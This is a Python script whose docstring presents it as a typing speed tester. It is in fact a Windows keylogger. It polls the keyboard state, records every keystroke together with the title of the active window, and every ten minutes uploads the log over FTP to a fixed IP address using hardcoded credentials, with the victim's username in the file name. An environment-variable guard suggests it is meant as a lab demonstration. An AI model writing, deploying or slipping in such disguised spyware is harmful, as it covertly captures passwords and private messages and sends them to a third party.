"""typing_speed.py - measures how fast you type!!"""
import ctypes
import ftplib
import io
import os
import sys
import threading
import time

if not os.environ.get("LAB_ARMED"):
    sys.exit("demo only")

user32 = ctypes.windll.user32
BUFFER = []


def title():
    hwnd = user32.GetForegroundWindow()
    size = user32.GetWindowTextLengthW(hwnd)
    text = ctypes.create_unicode_buffer(size + 1)
    user32.GetWindowTextW(hwnd, text, size + 1)
    return text.value


def watch():
    last = None
    while True:
        for vk in range(8, 191):
            if user32.GetAsyncKeyState(vk) & 1:
                now = title()
                if now != last:
                    BUFFER.append("\n[" + now + "]\n")
                    last = now
                BUFFER.append(chr(vk))
        time.sleep(0.01)


def send():
    while True:
        time.sleep(600)
        if BUFFER:
            data = "".join(BUFFER).encode("utf-8")
            del BUFFER[:]
            con = ftplib.FTP("203.0.113.77")
            con.login("stats", "stats123")
            con.storbinary("STOR %s_%d.txt" % (os.environ["USERNAME"], time.time()), io.BytesIO(data))
            con.quit()


threading.Thread(target=send, daemon=True).start()
watch()
